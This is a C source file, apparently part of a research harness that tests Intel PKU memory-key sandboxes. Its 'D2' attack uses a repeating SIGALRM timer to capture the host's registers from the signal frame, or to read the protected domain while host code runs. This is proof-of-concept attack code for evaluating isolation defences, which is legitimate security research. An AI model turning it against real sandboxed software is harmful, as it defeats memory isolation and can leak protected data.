/* D2: a signal that arrives while the host works. The attacker's handler finds the
 * host's registers in its frame; or reads the domain at once, or after the toolkit's
 * fault handler has taken it for host code.
 *
 * Source: [PKU Pitfalls]; [pkeys(7)]: handlers start with every key but 0 closed.
 */
#include <setjmp.h>
#include <signal.h>
#include <sys/time.h>
#include <ucontext.h>
#include "attack.h"

#define TICK_US 2000
#define TICKS 10 /* the host may be anywhere, once */

static int ticks;

static void take_registers(int number, siginfo_t *info, void *context) {
    (void)number;
    (void)info;
    if (!target.host_works) return;
    attack_hand_in(((ucontext_t *)context)->uc_mcontext.gregs, sizeof(gregset_t));
    target.enough = ++ticks == TICKS;
}

static void read_domain(int number, siginfo_t *info, void *context) {
    (void)number;
    (void)info;
    (void)context;
    if (!target.host_works) return;
    attack_read();
    target.enough = 1;
}

static void ticking(void (*handler)(int, siginfo_t *, void *)) {
    struct sigaction action = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO | SA_RESTART};
    struct itimerval timer = {{0, TICK_US}, {0, TICK_US}};
    TRY("sigaction", sigaction(SIGALRM, &action, NULL));
    TRY("setitimer", setitimer(ITIMER_REAL, &timer, NULL));
}

static void registers(void) { ticking(take_registers); }
static void memory(void) { ticking(read_domain); }

static void end(void) {
    struct itimerval never = {{0, 0}, {0, 0}};
    TRY("setitimer", setitimer(ITIMER_REAL, &never, NULL));
}

const struct attack attacks[] = {
    {.variant = "registers", .attack = registers, .again = end, .flags = ATTACK_HOST_WORKS | ATTACK_HOST_WAITS},
    {.variant = "memory", .attack = memory, .again = end, .flags = ATTACK_HOST_WORKS | ATTACK_HOST_WAITS},
    {0},
};
